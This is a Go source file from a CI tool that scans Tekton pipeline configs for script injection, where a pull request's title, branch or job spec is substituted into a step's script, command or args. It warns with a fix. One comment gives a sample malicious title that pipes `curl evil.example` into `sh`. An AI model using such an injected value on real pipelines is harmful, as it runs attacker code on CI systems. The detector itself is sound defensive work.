package config

import (
	"fmt"
	"regexp"
	"slices"
	"strings"

	pipelinev1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"

	prowjobsv1 "github.com/bosun-ci/bosun/pkg/apis/prowjobs/v1"
)

// Params bosun passes to a PipelineRun whose values the pull request's author chooses: the
// title, the head branch name, and JOB_SPEC, whose refs.pulls hold both again. The names are
// those of resources.Params in the pipeline reconciler, which this package cannot import.
const (
	ParamPullTitle   = "PULL_TITLE"
	ParamPullHeadRef = "PULL_HEAD_REF"
	ParamJobSpec     = "JOB_SPEC"
)

// AuthorParams returns the params a job of type t gets whose values a pull request's author
// controls. Presubmits get all three; batch jobs only JOB_SPEC, which lists their pulls;
// postsubmits and periodics none, since no pull request is involved.
func AuthorParams(t prowjobsv1.ProwJobType) []string {
	switch t {
	case prowjobsv1.PresubmitJob:
		return []string{ParamPullTitle, ParamPullHeadRef, ParamJobSpec}
	case prowjobsv1.BatchJob:
		return []string{ParamJobSpec}
	}
	return nil
}

// ScriptInjection is a place where a job's inline pipeline substitutes a value the pull
// request's author controls into text that a shell or program interprets. Tekton replaces
// $(params.NAME) textually before the step starts, so a title such as
// `x"; curl evil.example | sh; "` becomes part of the script.
type ScriptInjection struct {
	// Task is the pipeline task; Finally says it is one of the pipeline's finally tasks.
	Task    string
	Finally bool
	// Container is "step", "sidecar" or "stepTemplate"; Name is the step's or sidecar's
	// name, "unnamed-<i>" for a step without one (as Tekton names it), and empty for the
	// step template.
	Container string
	Name      string
	// Field is "script", "command" or "args".
	Field string
	// Uses is the param the field substitutes, as the task sees it: the author's param
	// itself, or a param that holds it (a pipeline task param or a param default).
	Uses string
	// Param is the author-controlled param the value comes from.
	Param string
}

// String renders the finding with its fix, e.g. `task build step compile: script uses
// $(params.PULL_TITLE), which the pull request's author controls; pass it as an env var ...`.
func (s ScriptInjection) String() string {
	var b strings.Builder
	if s.Finally {
		b.WriteString("finally ")
	}
	fmt.Fprintf(&b, "task %s %s", s.Task, s.Container)
	if s.Name != "" {
		b.WriteString(" " + s.Name)
	}
	fmt.Fprintf(&b, ": %s uses $(params.%s), ", s.Field, s.Uses)
	if s.Uses != s.Param {
		fmt.Fprintf(&b, "which holds $(params.%s), ", s.Param)
	}
	env := envName(s.Uses)
	fmt.Fprintf(&b, "which the pull request's author controls; pass it as an env var (env: [{name: %s, value: $(params.%s)}]) and use \"$%s\" (quoted) ", env, s.Uses, env)
	if s.Field == "script" {
		b.WriteString("in the script")
	} else {
		fmt.Fprintf(&b, "in a script instead of in %s", s.Field)
	}
	return b.String()
}

// envName turns a param name into a shell variable name: Tekton allows "-" and "." in param
// names, a shell does not.
func envName(param string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case 'A' <= r && r <= 'Z', '0' <= r && r <= '9', r == '_':
			return r
		case 'a' <= r && r <= 'z':
			return r - 'a' + 'A'
		}
		return '_'
	}, param)
}

// paramRefRe matches the three ways Tekton substitutes a param: $(params.NAME),
// $(params["NAME"]) and $(params['NAME']), each optionally indexing an array ([*], [0]) and
// the first also naming an object key ($(params.NAME.key)). The name is in group 1, 2 or 3.
var paramRefRe = regexp.MustCompile(`\$\(params(?:\.([A-Za-z_][A-Za-z0-9_-]*)(?:\.[A-Za-z0-9_.-]+)?|\["([^"\]]+)"\]|\['([^'\]]+)'\])(?:\[(?:\*|[0-9]+)\])?\)`)

// paramRefs returns the names of the params s substitutes, in order, without repeats.
func paramRefs(s string) []string {
	if !strings.Contains(s, "$(params") {
		return nil
	}
	var names []string
	for _, m := range paramRefRe.FindAllStringSubmatch(s, -1) {
		name := m[1] + m[2] + m[3]
		if !slices.Contains(names, name) {
			names = append(names, name)
		}
	}
	return names
}

// tainted maps the params in scope that hold author-controlled text to the author params
// they hold, sorted.
type tainted map[string][]string

// sources returns the author params that the strings substitute, sorted.
func (t tainted) sources(values ...string) []string {
	var out []string
	for _, v := range values {
		for _, name := range paramRefs(v) {
			for _, src := range t[name] {
				if !slices.Contains(out, src) {
					out = append(out, src)
				}
			}
		}
	}
	slices.Sort(out)
	return out
}

// add records that param holds srcs and reports whether that added anything.
func (t tainted) add(param string, srcs []string) bool {
	changed := false
	for _, src := range srcs {
		if !slices.Contains(t[param], src) {
			t[param] = append(t[param], src)
			changed = true
		}
	}
	slices.Sort(t[param])
	return changed
}

// valueStrings returns every string a param value holds.
func valueStrings(v pipelinev1.ParamValue) []string {
	out := []string{v.StringVal}
	out = append(out, v.ArrayVal...)
	for _, k := range sortedKeys(v.ObjectVal) {
		out = append(out, v.ObjectVal[k])
	}
	return out
}

// FindScriptInjections returns the places in spec's inline pipeline where one of
// authorParams (see AuthorParams) reaches a step's, the step template's or a sidecar's
// script, command or args, in the order of the pipeline's tasks, then its finally tasks.
//
// It follows values the way Tekton substitutes them: a run's params are visible to the
// inline pipeline and, propagated, to every inline taskSpec, declared or not; a pipeline
// param's default may name another param; and a pipeline task param passes its value, with
// the pipeline's params substituted, to the task's param of that name, hiding a pipeline
// param of the same name. Env values, when expressions, images and workspaces are not
// findings: there the value is data, not code.
//
// A pipeline given by pipelineRef, a task given by taskRef, a step given by a StepAction ref
// and a pipeline task holding a pipeline cannot be seen from the job's config, so they are
// not checked; nor are values passed on through task results.
func FindScriptInjections(spec *pipelinev1.PipelineRunSpec, authorParams []string) []ScriptInjection {
	if spec == nil || spec.PipelineSpec == nil || len(authorParams) == 0 {
		return nil
	}
	pipeline := pipelineTaint(spec, authorParams)
	var out []ScriptInjection
	for _, pt := range spec.PipelineSpec.Tasks {
		out = append(out, taskInjections(pt, false, pipeline)...)
	}
	for _, pt := range spec.PipelineSpec.Finally {
		out = append(out, taskInjections(pt, true, pipeline)...)
	}
	return out
}

// pipelineTaint returns the pipeline-level params that hold author text: the author params
// themselves, and params the run does not set whose defaults name them, directly or
// through other defaults (Tekton resolves such chains).
func pipelineTaint(spec *pipelinev1.PipelineRunSpec, authorParams []string) tainted {
	t := tainted{}
	setByRun := map[string]bool{}
	for _, a := range authorParams {
		t[a] = []string{a}
		setByRun[a] = true
	}
	for _, p := range spec.Params {
		setByRun[p.Name] = true
	}
	// Each pass can only add; there are finitely many params and sources, so it ends.
	for changed := true; changed; {
		changed = false
		for _, ps := range spec.PipelineSpec.Params {
			if setByRun[ps.Name] || ps.Default == nil {
				continue
			}
			if t.add(ps.Name, t.sources(valueStrings(*ps.Default)...)) {
				changed = true
			}
		}
	}
	return t
}

// taskInjections checks one pipeline task with an inline taskSpec.
func taskInjections(pt pipelinev1.PipelineTask, finally bool, pipeline tainted) []ScriptInjection {
	if pt.TaskSpec == nil {
		return nil
	}
	passed := append(pipelinev1.Params{}, pt.Params...)
	if pt.Matrix != nil {
		passed = append(passed, pt.Matrix.Params...)
		for _, inc := range pt.Matrix.Include {
			passed = append(passed, inc.Params...)
		}
	}
	task := tainted{}
	for name, srcs := range pipeline {
		if !slices.ContainsFunc(passed, func(p pipelinev1.Param) bool { return p.Name == name }) {
			task[name] = srcs
		}
	}
	for _, p := range passed {
		task.add(p.Name, pipeline.sources(valueStrings(p.Value)...))
	}
	if len(task) == 0 {
		return nil
	}

	var out []ScriptInjection
	at := ScriptInjection{Task: pt.Name, Finally: finally}
	check := func(container, name string, fields map[string][]string) {
		for _, field := range []string{"script", "command", "args"} {
			values := fields[field]
			for _, uses := range paramRefs(strings.Join(values, "\n")) {
				for _, src := range task[uses] {
					f := at
					f.Container, f.Name, f.Field, f.Uses, f.Param = container, name, field, uses, src
					out = append(out, f)
				}
			}
		}
	}
	ts := pt.TaskSpec.TaskSpec
	if st := ts.StepTemplate; st != nil {
		check("stepTemplate", "", map[string][]string{"command": st.Command, "args": st.Args})
	}
	for i, s := range ts.Steps {
		name := s.Name
		if name == "" {
			name = fmt.Sprintf("unnamed-%d", i)
		}
		check("step", name, map[string][]string{"script": {s.Script}, "command": s.Command, "args": s.Args})
	}
	for _, s := range ts.Sidecars {
		check("sidecar", s.Name, map[string][]string{"script": {s.Script}, "command": s.Command, "args": s.Args})
	}
	return out
}

// Warnings returns WarningList rendered as "file:line: message" strings, for logging.
func (c *Config) Warnings() []string {
	var out []string
	for _, w := range c.WarningList() {
		out = append(out, w.String())
	}
	return out
}

// WarningList returns what checkconfig warns about but bosun still loads: first what
// loading found (Prow sections and keys bosun ignores, jobs left to Prow, presets; see
// LoadWithWarnings), then presubmits whose inline pipeline substitutes the pull request's
// title, head branch or JOB_SPEC into a script, command or args (FindScriptInjections).
// Those name the job's file and the line of its run spec, e.g. `jobs.yaml:12: presubmit
// "unit" (acme/widgets): pipeline_run_spec: task build step compile: script uses
// $(params.PULL_TITLE), ...`.
func (c *Config) WarningList() []Warning {
	var out []Warning
	out = append(out, c.loadWarnings...)
	for _, s := range c.scriptWarnings() {
		out = append(out, Warning{Kind: ScriptInjectionWarning, Message: s})
	}
	return out
}

// LeftToProw returns the jobs for other agents that loading skipped, in load order.
func (c *Config) LeftToProw() []SkippedJob { return append([]SkippedJob(nil), c.leftToProw...) }

// scriptWarnings renders the script injections of every presubmit, postsubmit and periodic.
func (c *Config) scriptWarnings() []string {
	var out []string
	for _, repo := range sortedKeys(c.Presubmits) {
		for _, p := range c.Presubmits[repo] {
			out = append(out, jobWarnings(jobRef{kind: presubmitKind, name: p.Name, repo: repo, pos: p.pos}, p.JobBase, prowjobsv1.PresubmitJob)...)
		}
	}
	for _, repo := range sortedKeys(c.Postsubmits) {
		for _, p := range c.Postsubmits[repo] {
			out = append(out, jobWarnings(jobRef{kind: postsubmitKind, name: p.Name, repo: repo, pos: p.pos}, p.JobBase, prowjobsv1.PostsubmitJob)...)
		}
	}
	for _, p := range c.Periodics {
		out = append(out, jobWarnings(jobRef{kind: periodicKind, name: p.Name, pos: p.pos}, p.JobBase, prowjobsv1.PeriodicJob)...)
	}
	return out
}

// jobWarnings renders one job's script injections as warnings.
func jobWarnings(ref jobRef, j JobBase, t prowjobsv1.ProwJobType) []string {
	field := "pipeline_run_spec"
	if j.PipelineRunSpec == nil {
		field = "tekton_pipeline_run_spec.v1beta1"
	}
	var out []string
	for _, f := range FindScriptInjections(j.RunSpec(), AuthorParams(t)) {
		out = append(out, ref.errorf(field, "%s", f).Error())
	}
	return out
}
